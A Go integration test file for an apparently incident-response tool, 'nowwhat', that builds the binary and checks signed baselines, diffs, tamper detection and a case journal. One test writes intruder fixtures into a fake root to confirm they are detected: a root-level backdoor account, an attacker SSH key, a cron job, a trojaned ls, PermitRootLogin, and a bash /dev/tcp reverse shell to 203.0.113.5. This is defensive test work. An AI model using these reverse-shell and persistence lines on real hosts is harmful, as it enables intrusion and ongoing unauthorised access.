package main

// Integration tests: build the real binary and run it as a user would, on fixture roots.

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nowwhat/nowwhat/internal/base/casedir"
	"github.com/nowwhat/nowwhat/internal/base/fixture"
)

var binary string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "nowwhat-bin-")
	if err != nil {
		panic(err)
	}
	binary = filepath.Join(dir, "nowwhat")
	cmd := exec.Command("go", "build", "-o", binary, ".")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		os.Stderr.Write(out)
		panic(err)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

type result struct {
	stdout, stderr string
	code           int
}

func run(t *testing.T, env []string, args ...string) result {
	t.Helper()
	cmd := exec.Command(binary, args...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	cmd.Env = append(append(os.Environ(), "NOWWHAT_CASE="), env...)
	err := cmd.Run()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return result{out.String(), errb.String(), code}
}

func TestHelpAndVersion(t *testing.T) {
	r := run(t, nil, "--help")
	if r.code != 0 || !strings.Contains(r.stdout, "nowwhat diff") {
		t.Fatalf("--help: %+v", r)
	}
	r = run(t, nil, "version")
	if r.code != 0 || !strings.HasPrefix(r.stdout, "nowwhat ") {
		t.Fatalf("version: %+v", r)
	}
	for _, c := range []string{"keygen", "snapshot", "seal", "baseline", "diff", "check", "note", "investigate", "collect", "collect verify", "maintenance", "contain service", "contain isolate", "contain kill", "contain suspend", "contain lock-user", "contain revoke-key", "contain undo", "contain status", "contain confirm", "report", "clean", "clean undo", "clean status", "verify"} {
		r := run(t, nil, append(strings.Fields(c), "--help")...)
		if r.code != 0 || !strings.Contains(r.stdout, "Examples:") {
			t.Errorf("%s --help lacks examples: %+v", c, r)
		}
	}
	r = run(t, nil, "frobnicate")
	if r.code == 0 || !strings.Contains(r.stderr, "--help") {
		t.Errorf("unknown command: %+v", r)
	}
}

type diffJSON struct {
	Verified bool     `json:"verified"`
	Warnings []string `json:"warnings"`
	Changes  []struct {
		Kind, Change, Subject, Path string
		Before, After               map[string]string
	} `json:"changes"`
}

func TestBaselineDiffEndToEnd(t *testing.T) {
	work := t.TempDir()
	caseDir := filepath.Join(work, "case")
	key := filepath.Join(work, "admin")
	host := fixture.Debian(t)

	r := run(t, nil, "keygen", "--no-password", key)
	if r.code != 0 || !strings.Contains(r.stdout, "off the servers") {
		t.Fatalf("keygen: %+v", r)
	}
	base := filepath.Join(work, "base.snap")
	r = run(t, nil, "--case", caseDir, "baseline", "--root", host.Dir, "--key", key+".key", "-o", base)
	if r.code != 0 {
		t.Fatalf("baseline: %+v", r)
	}
	if _, err := os.Stat(base + ".minisig"); err != nil {
		t.Fatal("no signature written")
	}
	if mb, err := exec.LookPath("minisign"); err == nil {
		if out, err := exec.Command(mb, "-Vm", base, "-p", key+".pub").CombinedOutput(); err != nil {
			t.Fatalf("minisign rejects the baseline: %s", out)
		}
	}

	// Nothing changed: exit 0.
	r = run(t, nil, "diff", "--pubkey", key+".pub", "--root", host.Dir, base)
	if r.code != 0 || !strings.Contains(r.stdout, "No changes") || !strings.Contains(r.stdout, "signature OK") {
		t.Fatalf("diff unchanged: %+v", r)
	}

	// An intruder's work.
	host.Append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
	host.Append("/etc/shadow", "toor:$6$salt$hash:19700:0:99999:7:::\n")
	host.Append("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW evil@kali\n")
	host.File("/etc/cron.d/update", "* * * * * root /dev/shm/.x/run\n", 0o644)
	host.File("/usr/bin/ls", "\x7fELF trojaned ls\n", 0o755)
	host.File("/dev/shm/.x/run", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", 0o755)
	host.File("/etc/ssh/sshd_config", strings.Replace(host.Read("/etc/ssh/sshd_config"), "KbdInteractiveAuthentication no", "KbdInteractiveAuthentication no\nPermitRootLogin yes", 1), 0o644)

	r = run(t, nil, "--case", caseDir, "diff", "--pubkey", key+".pub", "--root", host.Dir, base, "--format", "json")
	if r.code != 1 {
		t.Fatalf("diff after attack: exit %d, want 1: %s", r.code, r.stderr)
	}
	var d diffJSON
	if err := json.Unmarshal([]byte(r.stdout), &d); err != nil {
		t.Fatalf("json: %v\n%s", err, r.stdout)
	}
	if !d.Verified {
		t.Error("verified baseline reported as unverified")
	}
	want := map[string]bool{
		"account added toor": false, "file modified /usr/bin/ls": false, "file added /dev/shm/.x/run": false,
		"file added /etc/cron.d/update": false, "file modified /etc/ssh/sshd_config": false, "job added": false,
	}
	for _, c := range d.Changes {
		if strings.Contains(c.Path, host.Dir) || strings.Contains(c.Subject, host.Dir) {
			t.Errorf("fixture path leaked into output: %+v", c)
		}
		for k := range want {
			f := strings.SplitN(k, " ", 3)
			if c.Kind == f[0] && c.Change == f[1] && (len(f) < 3 || c.Path == f[2] || strings.Contains(c.Subject, f[2])) {
				want[k] = true
			}
		}
	}
	for k, ok := range want {
		if !ok {
			t.Errorf("diff did not report %q", k)
		}
	}

	// Text output, grouped, most relevant first.
	r = run(t, nil, "diff", "--pubkey", key+".pub", "--root", host.Dir, base)
	if r.code != 1 || strings.Index(r.stdout, "Accounts") > strings.Index(r.stdout, "Files:") {
		t.Errorf("text diff: %+v", r)
	}

	// A snapshot to stdout, compared as OTHER.
	cur := filepath.Join(work, "cur.snap")
	cmd := exec.Command(binary, "snapshot", "--root", host.Dir, "-o", "-", "-q")
	f, _ := os.Create(cur)
	cmd.Stdout = f
	if err := cmd.Run(); err != nil {
		t.Fatalf("snapshot -o -: %v", err)
	}
	f.Close()
	r = run(t, nil, "diff", "--pubkey", key+".pub", base, cur, "--format", "json", "--kind", "account")
	if r.code != 1 || !strings.Contains(r.stdout, "toor") || strings.Contains(r.stdout, `"kind": "file"`) {
		t.Errorf("diff of two files with --kind: %+v", r)
	}

	// One flipped byte: refused, with "signature".
	data, _ := os.ReadFile(base)
	data[len(data)/3] ^= 0x20
	os.WriteFile(base, data, 0o600)
	r = run(t, nil, "diff", "--pubkey", key+".pub", "--root", host.Dir, base)
	if r.code != 2 || !strings.Contains(r.stderr, "signature") {
		t.Errorf("tampered baseline: %+v", r)
	}
	data[len(data)/3] ^= 0x20
	os.WriteFile(base, data, 0o600)

	// Unsigned: refused unless --unsigned-ok, and then said to be unverified.
	r = run(t, nil, "diff", "--pubkey", key+".pub", cur, cur)
	if r.code != 2 || !strings.Contains(r.stderr, "signature") {
		t.Errorf("unsigned baseline accepted: %+v", r)
	}
	r = run(t, nil, "diff", "--unsigned-ok", cur, cur)
	if r.code != 0 || !strings.Contains(r.stdout, "UNVERIFIED") {
		t.Errorf("--unsigned-ok: %+v", r)
	}

	// Garbage as a baseline: a clear error.
	junk := filepath.Join(work, "junk.snap")
	os.WriteFile(junk, []byte("this is not a snapshot"), 0o600)
	r = run(t, nil, "diff", "--unsigned-ok", junk, cur)
	if r.code != 2 || !strings.Contains(r.stderr, "not a nowwhat snapshot") {
		t.Errorf("junk baseline: %+v", r)
	}

	// The case journal holds every command with its outcome.
	c, err := casedir.Open(caseDir)
	if err != nil {
		t.Fatal(err)
	}
	es, err := c.Entries()
	if err != nil || len(es) != 2 || es[0].Command != "baseline" || es[1].Command != "diff" || len(es[0].Outputs) != 2 || es[1].Facts["changes"] == "" {
		t.Fatalf("journal: %+v %v", es, err)
	}
}

func TestSnapshotBadInput(t *testing.T) {
	work := t.TempDir()
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"no output", []string{"snapshot", "--root", work}, "-o"},
		{"missing root", []string{"snapshot", "--root", filepath.Join(work, "nope"), "-o", filepath.Join(work, "x.snap")}, "--root"},
		{"bad size", []string{"snapshot", "--root", work, "--max-hash-size", "lots", "-o", filepath.Join(work, "x.snap")}, "size"},
		{"unwritable output", []string{"snapshot", "--root", work, "-o", filepath.Join(work, "no/such/dir/x.snap")}, "create snapshot"},
		{"baseline to stdout", []string{"baseline", "--root", work, "--key", filepath.Join(work, "k.key"), "-o", "-"}, "-o FILE"},
		{"seal missing key", []string{"seal", "--key", filepath.Join(work, "none.key"), filepath.Join(work, "x.snap")}, "secret key"},
		{"diff bad format", []string{"diff", "--unsigned-ok", "--format", "xml", "x"}, "--format"},
	}
	for _, tc := range tests {
		r := run(t, nil, tc.args...)
		if r.code == 0 || !strings.Contains(r.stderr, tc.want) {
			t.Errorf("%s: exit %d, stderr %q; want an error mentioning %q", tc.name, r.code, r.stderr, tc.want)
		}
	}
}
